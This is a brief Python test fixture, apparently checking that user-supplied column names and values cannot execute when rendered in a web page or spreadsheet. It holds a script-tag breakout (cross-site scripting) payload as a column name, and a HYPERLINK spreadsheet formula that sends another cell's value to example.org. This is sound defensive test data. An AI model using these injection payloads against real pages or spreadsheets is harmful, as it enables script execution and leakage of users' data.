"""What the users' own names and values may hold: nothing of it may run, in the page or in a spreadsheet."""

HARM = "</script><script>document.title = 'harmed'</script>"
FORMULA = '=HYPERLINK("http://example.org?x="&A1,"open")'
COLUMNS = {
    "sex": ["f", "m"] * 160,
    HARM: [FORMULA] * 160 + ["a" * 300] * 160,
}
"""Of the images from elsewhere: a name that is a script, a value that is a formula, and a long one."""
